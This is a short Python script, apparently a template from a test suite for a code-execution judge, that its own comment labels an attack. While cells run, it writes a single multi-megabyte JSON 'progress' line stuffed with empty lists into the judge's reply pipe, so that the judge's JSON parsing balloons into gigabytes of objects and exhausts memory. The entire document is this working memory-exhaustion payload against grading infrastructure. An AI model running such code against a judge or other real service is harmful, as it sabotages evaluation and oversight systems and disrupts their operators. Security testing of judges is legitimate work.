# Attack: while the cells run, write one valid ~{BOMB_MB} MB "progress" line padded with empty JSON lists
# into the reply pipe: the judge's json.loads turns it into GBs of Python objects (no limit there).
import fcntl
import os
import sys

_fd = int(sys.argv[2])                                     # the reply pipe
try:
    fcntl.fcntl(_fd, 1031, 1 << 20)                        # F_SETPIPE_SZ: 1 MB chunks
except OSError:
    pass
_line = b'{"id":1,"type":"progress","index":0,"pad":[' + b"[]," * ({BOMB_MB} * 2**20 // 3) + b'[]]}\n'
_view = memoryview(_line)
while _view:
    _view = _view[os.write(_fd, _view):]
print("BOMB sent", len(_line) // 2**20, "MB", flush=True)
del _line, _view
